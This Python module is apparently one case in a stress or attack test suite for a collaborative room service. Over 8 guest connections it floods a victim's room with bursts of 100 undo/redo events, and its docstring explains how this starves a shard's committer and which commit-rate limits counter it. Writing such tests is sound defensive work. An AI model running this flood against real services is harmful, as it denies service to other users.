"""Undos and redos without waiting for results.

Does: makes an element in the victim's room on each of 8 connections, and undoes and redoes that, in bursts of 100.
Breaks: a shard's committer can do a few hundred undos a second, since each is a transaction of its own; the victim's
    commits queue behind them.
Limit: users take turns in a batch; an undo counts as four of `commits-per-second` (30) and `user-commits-per-second`.
"""

import asyncio
import os

from lines import event, guest

PROOF = "undos"


async def attack(target):
    await target.crowd(8, flood)


async def flood(target):
    room, element = target.room, {"type": "note", "id": os.urandom(6).hex()}
    burst = b"".join(event(f"history:{way}", {"roomId": room}, 8) for way in ("undo", "redo") * 50)
    async with await guest(target, room) as line:
        await line.send(event("element:create", {"roomId": room, "element": element}, 8))
        while target.is_on():
            await line.send(burst)
            target.tally("undos", 100)
            line.discard()
            await asyncio.sleep(0.05)
